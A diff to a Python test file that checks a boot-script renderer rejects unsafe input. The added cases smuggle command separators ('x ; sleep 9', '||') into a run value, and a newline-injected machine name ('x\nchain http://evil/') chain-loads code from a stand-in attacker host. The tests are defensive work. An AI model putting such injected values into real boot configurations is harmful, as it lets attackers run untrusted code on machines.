@@ -136,6 +136,9 @@ def test_no_extra_args_means_no_secrets_file(tmp_path: Path) -> None:
         ({"cmdline_extra": ('a="b',)}, "balanced double quotes"),
         ({"secrets": ("b2c.x=${unknown}",)}, "unknown server variable"),
         ({"secrets": ("price=$",)}, "not a valid server template"),
+        ({"run": ("docker://a sh -c 'true || false'",)}, "command separator or comment, even in quotes"),
+        ({"run": ("docker://a sh -c 'x ; sleep 9'",)}, "command separator"),
+        ({"cmdline_extra": ("#comment",)}, "comment"),
     ],
 )
 def test_bad_values_are_refused(overrides: dict[str, object], message: str) -> None:
@@ -143,6 +146,11 @@ def test_bad_values_are_refused(overrides: dict[str, object], message: str) -> N
         cfg = config(**overrides)
         b2c.render_boot_script(cfg, FP)
         b2c.render_secrets(cfg, FP)
+
+
+def test_machine_name_is_checked() -> None:
+    with pytest.raises(InputError, match="not a machine name"):
+        b2c.render_boot_script(config(), FP, "x\nchain http://evil/")
 
 
 @pytest.mark.parametrize("text", ["xyz", FP[:-1], FP + "0", "g" * 40])
